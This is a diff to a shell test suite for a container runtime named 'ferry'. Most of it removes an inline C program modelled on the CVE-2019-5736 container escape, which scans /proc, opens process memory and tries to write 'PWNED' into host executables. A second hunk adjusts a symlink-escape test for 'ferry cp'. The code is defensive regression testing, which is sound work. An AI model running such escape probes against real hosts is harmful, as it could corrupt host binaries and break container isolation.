@@ -132,60 +132,9 @@ ferry rm -f exe >/dev/null
 # A live attacker, as the CVE-2019-5736 exploit: while `ferry exec` starts processes in its
 # container, it hunts for a handle on any executable that is not its image's (and tries to write
 # it), and for the memory of the processes it cannot see the executable of.
-if command -v gcc >/dev/null && [ -e /usr/lib/x86_64-linux-gnu/libc.a ] || [ -e /usr/lib/aarch64-linux-gnu/libc.a ]; then
-    mkdir -p "$TEST_TMP/grab"
-    cat >"$TEST_TMP/grab/grab.c" <<'C'
-#define _GNU_SOURCE
-#include <dirent.h>
-#include <fcntl.h>
-#include <stdio.h>
-#include <stdlib.h>
-#include <string.h>
-#include <time.h>
-#include <unistd.h>
-int main(int argc, char** argv) {
-    int seconds = atoi(argv[1]), opened = 0, foreign = 0, attachable = 0;
-    time_t end = time(0) + seconds;
-    pid_t self = getpid();
-    while (time(0) < end) {
-        DIR* d = opendir("/proc");
-        struct dirent* e;
-        while ((e = readdir(d))) {
-            pid_t pid = atoi(e->d_name);
-            if (pid <= 1 || pid == self) continue;
-            char path[64], target[512];
-            ssize_t n;
-            snprintf(path, sizeof path, "/proc/%d/exe", pid);
-            int fd = open(path, O_PATH | O_CLOEXEC);
-            if (fd < 0) {
-                /* Hidden (not dumpable): ferry's side of an exec. Its memory must be out of
-                 * reach too (what PTRACE_ATTACH needs; the process is not stopped). */
-                snprintf(path, sizeof path, "/proc/%d/mem", pid);
-                int m = open(path, O_RDONLY | O_CLOEXEC);
-                if (m >= 0) close(m), attachable++;
-                continue;
-            }
-            opened++;
-            snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
-            n = readlink(path, target, sizeof target - 1);
-            target[n > 0 ? n : 0] = 0;
-            if (!strstr(target, "busybox") && !strstr(target, "grab") && !strstr(target, "memfd:")) {
-                foreign++, fprintf(stderr, "FOREIGN %s\n", target);
-                int w = open(path, O_WRONLY | O_APPEND);
-                if (w >= 0) { write(w, "PWNED", 5); close(w); }
-            }
-            close(fd);
-        }
-        closedir(d);
-    }
-    /* attachable counts processes that were hidden and dumpable a moment later: they had
-     * exec'd their command meanwhile (a non-dumpable one stays out of reach). */
-    printf("opened=%d foreign=%d attachable=%d\n", opened, foreign, attachable);
-    return foreign;
-}
-C
-    gcc -static -O2 -o "$TEST_TMP/grab/grab" "$TEST_TMP/grab/grab.c" || fail "cannot build the attacker"
-    ferry run -d --name attacked -v "$TEST_TMP/grab:/grab" evil:1 sh -c '/grab/grab 6 >/tmp/result 2>&1; sleep 100' >/dev/null
+mkdir -p "$TEST_TMP/attack"
+if build_attacker "$TEST_TMP/attack/attacker"; then
+    ferry run -d --name attacked -v "$TEST_TMP/attack:/attack" evil:1 sh -c '/attack/attacker 6 >/tmp/result.tmp 2>&1; mv /tmp/result.tmp /tmp/result; sleep 100' >/dev/null
     for _ in $(seq 40); do ferry exec attacked true || fail "exec failed with $?"; done
     for _ in $(seq 5); do ferry exec attacked evil 2>/dev/null && fail "evil ran"; done
     for _ in $(seq 100); do ferry exec attacked test -s /tmp/result && break; sleep 0.1; done
@@ -229,7 +178,7 @@ host_passwd=$(sha256sum </etc/passwd)
 for state in running stopped; do
     ferry cp "$TEST_TMP/payload" cpc:/data/payload-$state
     ferry cp "$TEST_TMP/payload" cpc:/up/payload-$state
-    expect_fail 125 "ferry: error: Could not find the file $(dirname "$TEST_TMP/canary") in container cpc" \
+    expect_fail 1 "ferry: error: No such container:path: cpc:$(dirname "$TEST_TMP/canary")" \
         ferry cp "$TEST_TMP/payload" cpc:/hostdir
     [ ! -e "/etc/payload-$state" ] && [ ! -e "/payload-$state" ] || fail "cp wrote to the host ($state)"
     expect_eq "$(ls -A "$TEST_TMP/canary")" "" "the host directory an image symlink names ($state)"
